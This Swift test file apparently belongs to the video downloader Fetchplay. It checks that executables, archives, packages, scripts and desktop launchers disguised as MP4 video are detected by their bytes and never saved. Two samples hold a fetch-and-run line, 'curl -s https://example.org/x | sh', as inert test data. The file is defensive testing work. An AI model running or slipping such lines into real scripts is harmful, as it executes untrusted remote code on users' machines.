@testable import FetchCore
import Foundation
import Testing
import TestSupport

/// Programs, archives, scripts, launchers and installer packages are refused by their bytes,
/// whatever the server calls them, and nothing of them is kept.
struct NeverMediaTests {
    let server: FaultServer
    let harness: DownloadHarness

    init() throws {
        server = try FaultServer()
        harness = try DownloadHarness()
    }

    @Test(arguments: NonMediaSamples.all)
    func neverMediaIsKnownByItsBytes(_ sample: NonMediaSamples.Sample) {
        for label in [nil, "video/mp4", "application/octet-stream", "text/plain"] {
            let judged = sample.bytes.withUnsafeBytes { MediaSniffer.document(contentType: label, firstBytes: $0) }
            #expect(judged == sample.kind, "\(sample.name) labelled \(label ?? "nothing")")
        }
    }

    /// Served as an MP4 under a video's name, each is refused with its sentence and leaves
    /// nothing in the cache or the videos folder.
    @Test(arguments: NonMediaSamples.all)
    func executablesArchivesScriptsAndLaunchersAreRefused(_ sample: NonMediaSamples.Sample) throws {
        server.serve("/clip.mp4", body: sample.bytes, etag: "\"x\"", headers: [
            HTTPHeader("Content-Type", "video/mp4"), HTTPHeader("Content-Disposition", "attachment; filename=\"clip.mp4\""),
        ])
        let state = try harness.download(server.url("/clip.mp4"))
        #expect(state == .failed(.notAVideo(sample.kind)), "\(sample.name)")
        #expect(harness.cache.entries().isEmpty)
        #expect(harness.filesInCache().filter { !$0.hasSuffix(".lock") } == ["partial", "videos"], "nothing of \(sample.name) is kept")
    }

    @Test func zipServedAsAVideoIsRefusedWithItsSentence() throws {
        let zip = try #require(NonMediaSamples.all.first { $0.name == "ZIP made by zip" })
        server.serve("/clip.mp4", body: zip.bytes + TestData.bytes(count: 100_000, seed: 7), etag: "\"z\"", headers: [
            HTTPHeader("Content-Type", "video/mp4"), HTTPHeader("Content-Disposition", "attachment; filename=\"clip.mp4\""),
        ])
        guard case .failed(let error) = try harness.download(server.url("/clip.mp4")) else {
            Issue.record("a ZIP was kept as a video")
            return
        }
        #expect(error.message == "This link is an archive (such as ZIP), not a video; Fetchplay saves only video and audio.")
        #expect(harness.cache.entries().isEmpty)
        #expect(try FileManager.default.contentsOfDirectory(atPath: harness.cache.videoFolder).isEmpty)
        #expect(harness.filesInCache().filter { !$0.hasSuffix(".lock") } == ["partial", "videos"])
    }

    /// A magic of two or three bytes alone is no verdict: one encrypted HLS segment in 65,536
    /// begins with `MZ`, and as many with gzip's first two bytes.
    @Test(arguments: [Array("MZ".utf8), [0x1F, 0x8B], Array("BZh9".utf8), Array("#!".utf8), Array("#!/".utf8), Array("#!AMR\n".utf8),
                      Array("PK".utf8), [0xCA, 0xFE]])
    func shortMagicsInNoiseAreKept(_ start: [UInt8]) {
        let noise = start + TestData.bytes(count: 600, seed: 11)
        #expect(noise.withUnsafeBytes { MediaSniffer.document(contentType: "video/mp2t", firstBytes: $0) } == nil)
    }
}

/// Files that are never media, in real bytes: made by the tools that make them (zip, gzip, tar,
/// ar, dpkg-deb), read from the system (an ELF program), written as people write them (scripts,
/// launchers), or, for formats no tool here writes, the first bytes of a real file of the kind.
enum NonMediaSamples {
    struct Sample: Sendable, CustomTestStringConvertible {
        let name: String
        let bytes: [UInt8]
        let kind: DocumentKind
        var testDescription: String { name }
    }

    static let all: [Sample] = {
        do { return try made() + written() } catch { fatalError("cannot make the samples: \(error)") }
    }()

    struct ToolFailed: Error { let line: String }

    /// Runs a shell line in a new folder holding `notes.txt` and returns the file it wrote.
    private static func output(of line: String, file: String) throws -> [UInt8] {
        let folder = try TemporaryDirectory(prefix: "fetchplay-never-media")
        try folder.write(Array("These are notes, not a video.\n".utf8), to: "notes.txt")
        guard Command.runShell("cd '\(folder.path)' && \(line)") == 0,
              let data = FileManager.default.contents(atPath: folder.file(file)) else { throw ToolFailed(line: line) }
        return Array(data)
    }

    private static func made() throws -> [Sample] {
        guard let shell = FileManager.default.contents(atPath: "/bin/sh") else { throw ToolFailed(line: "read /bin/sh") }
        return [
            Sample(name: "ELF program (/bin/sh)", bytes: Array(shell.prefix(4096)), kind: .program),
            Sample(name: "ZIP made by zip", bytes: try output(of: "zip -q Holiday.jar notes.txt", file: "Holiday.jar"), kind: .archive),
            Sample(name: "gzip made by gzip", bytes: try output(of: "gzip -c notes.txt > n.gz", file: "n.gz"), kind: .archive),
            Sample(name: "tar made by tar", bytes: try output(of: "tar cf n.tar notes.txt", file: "n.tar"), kind: .archive),
            Sample(name: "ar archive made by ar", bytes: try output(of: "ar rc lib.a notes.txt", file: "lib.a"), kind: .archive),
            Sample(name: "DEB made by dpkg-deb", bytes: try output(of: """
                mkdir -p p/DEBIAN && printf 'Package: holiday\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@example.org>\\nDescription: x\\n' \
                > p/DEBIAN/control && dpkg-deb -Zgzip --build p holiday.deb >/dev/null
                """, file: "holiday.deb"), kind: .package),
        ]
    }

    private static func hex(_ text: String) -> [UInt8] {
        let digits = Array(text.filter(\.isHexDigit))
        return stride(from: 0, to: digits.count, by: 2).map { UInt8(String(digits[$0...$0 + 1]), radix: 16)! }
    }

    private static func written() -> [Sample] {
        // A PE program's DOS header, stub and PE header (x86-64), as a Windows linker writes them.
        let pe = hex("""
            4d5a9000030000000400 0000ffff0000b8000000 00000000400000000000 00000000000000000000
            00000000000000000000 00000000000000000000 f00000000e1fba0e 00b409cd21b8014ccd21
            """) + Array("This program cannot be run in DOS mode.\r\r\n$".utf8)
        let padded = pe + [UInt8](repeating: 0, count: 0xF0 - pe.count) + hex("50450000 6486 0600 090dee62")
        return [
            Sample(name: "Windows program (MZ, PE)", bytes: padded + [UInt8](repeating: 0, count: 200), kind: .program),
            Sample(name: "Mach-O 64-bit", bytes: hex("cffaedfe 07000001 03000000 02000000 10000000 e8050000 85002000 00000000"), kind: .program),
            Sample(name: "Mach-O universal", bytes: hex("cafebabe 00000002 01000007 00000003 00004000 0000c2b0 0000000e"), kind: .program),
            // javac's output for `class Hi {}` (Java 17).
            Sample(name: "Java class", bytes: hex("cafebabe 0000003d 000d0a00 02000307 00040c00 05000601 00106a61 76612f6c"), kind: .program),
            Sample(name: "empty ZIP", bytes: Array("PK\u{5}\u{6}".utf8) + [UInt8](repeating: 0, count: 18), kind: .archive),
            Sample(name: "RAR 5", bytes: hex("526172211a070100 3392b5e50a010506 0005010180800000"), kind: .archive),
            Sample(name: "RAR 4", bytes: hex("526172211a0700cf 907300000d000000 00000000"), kind: .archive),
            Sample(name: "7z", bytes: hex("377abcaf271c0004 8d9bd50f0a000000 0000000022000000 00000000641e7a8e"), kind: .archive),
            // `xz`, `bzip2` and `zstd` of "hi\n".
            Sample(name: "xz", bytes: hex("""
                fd377a585a000004 e6d6b44602002101 16000000742fe5a3 0100026869 0a0000fb7be8e82a 58434f00011b030b 2fb9101fb6f37d01 00000000 04595a
                """), kind: .archive),
            Sample(name: "bzip2", bytes: hex("""
                425a683931415926 53591d5e59d50000 00c1000010006020 0021981984617724 5385090 1d5e59d50
                """), kind: .archive),
            Sample(name: "Zstandard", bytes: hex("28b52ffd240319000068690a343d5092"), kind: .archive),
            Sample(name: "Cabinet (by GLib's guess)", bytes: hex("""
                4d53434600000000 5000000000000000 2c00000000000000 0301010001000000
                """) + TestData.bytes(count: 300, seed: 12), kind: .archive),
            // An RPM's lead: magic, version 3.0, a binary package, its name, the signature type.
            Sample(name: "RPM", bytes: hex("edabeedb 0300 0000 0001") + Array("holiday-1.0-1".utf8) + [UInt8](repeating: 0, count: 53)
                + hex("0001 0005") + [UInt8](repeating: 0, count: 16), kind: .package),
            // A compound file (MSI) header: magic, CLSID, version 3, little-endian, 512-byte sectors.
            Sample(name: "MSI (OLE compound file)", bytes: hex("d0cf11e0a1b11ae1") + [UInt8](repeating: 0, count: 16)
                + hex("3e000300feff0900 0600000000000000") + [UInt8](repeating: 0xFF, count: 200), kind: .package),
            // A shell link's header: size 76, its CLSID, flags, then zeros.
            Sample(name: "Windows shortcut", bytes: hex("4c000000 01140200 00000000 c0000000 00000046 9b000800 20000000")
                + [UInt8](repeating: 0, count: 56), kind: .launcher),
            Sample(name: "shell script", bytes: Array("#!/bin/sh\ncurl -s https://example.org/x | sh\n".utf8), kind: .script),
            Sample(name: "script with a blank before its interpreter", bytes: Array("#! /usr/bin/env python3\nprint('hi')\n".utf8), kind: .script),
            // The kernel runs these too: it reads the interpreter up to a blank or a NUL.
            Sample(name: "script whose first line runs into binary bytes", bytes: Array("#!/bin/sh ".utf8)
                + (0..<600).map { UInt8(1 + $0 % 8) }, kind: .script),
            Sample(name: "script with a NUL after its interpreter", bytes: Array("#! /bin/bash".utf8) + [0, 0, 0x0A]
                + TestData.bytes(count: 600, seed: 12), kind: .script),
            Sample(name: "desktop launcher", bytes: Array("""
                [Desktop Entry]
                Type=Application
                Name=Holiday video
                Exec=sh -c "curl -s https://example.org/x | sh"
                Icon=video-x-generic

                """.utf8), kind: .launcher),
            Sample(name: "desktop launcher after comments, CRLF", bytes: Array("# Holiday\r\n\r\n[Desktop Entry]\r\nType=Link\r\n".utf8), kind: .launcher),
            Sample(name: "executable desktop launcher", bytes: Array("#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\n".utf8),
                   kind: .launcher),
        ]
    }
}
